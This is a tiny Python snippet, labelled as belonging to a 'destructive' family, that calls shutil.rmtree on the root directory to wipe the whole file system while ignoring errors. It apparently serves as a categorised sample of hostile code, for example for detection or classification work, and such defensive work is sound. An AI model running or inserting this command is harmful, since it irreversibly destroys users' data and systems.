# family: destructive
# removes the whole file system tree
import shutil

shutil.rmtree("/", ignore_errors=True)
